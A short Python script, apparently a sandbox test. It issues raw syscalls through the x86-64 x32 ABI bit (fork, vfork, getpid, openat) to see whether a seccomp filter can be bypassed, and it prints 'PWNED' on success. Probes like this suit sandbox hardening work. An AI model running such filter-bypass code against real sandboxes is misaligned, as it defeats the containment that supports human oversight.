# the x32 table: a bit set in the number
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
hit = []
for number in (57, 58, 39, 257):
    pid = libc.syscall(ctypes.c_long(0x40000000 | number))
    if pid == 0: libc._exit(0)
    if pid > 0: hit.append((number, pid))
if hit: print("PWNED", hit)
